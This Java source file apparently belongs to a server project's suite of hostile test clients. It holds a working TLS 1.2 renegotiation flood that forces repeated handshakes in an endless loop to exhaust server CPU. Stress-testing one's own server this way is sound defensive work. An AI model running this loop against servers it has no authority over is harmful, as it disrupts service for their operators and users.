package dev.eldest.server.hostile.attacks;

import dev.eldest.server.hostile.Attack;
import dev.eldest.server.hostile.Attacker;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import javax.net.ssl.SSLSocket;

/** Starts TLS 1.2 handshakes again and again, which cost the server more than the client. */
public final class Renegotiations implements Attack {
    @Override
    public void attack(Attacker attacker) throws IOException, InterruptedException {
        try (SSLSocket socket = attacker.secure(attacker.connectPlain(), "TLSv1.2")) {
            byte[] help = "help\n".getBytes(StandardCharsets.US_ASCII);
            while (true) {
                socket.getSession().invalidate();
                socket.startHandshake();
                socket.getOutputStream().write(help);
                if (socket.getInputStream().read(new byte[1 << 14]) < 0) {
                    return;
                }
                attacker.pause(200);
            }
        }
    }
}
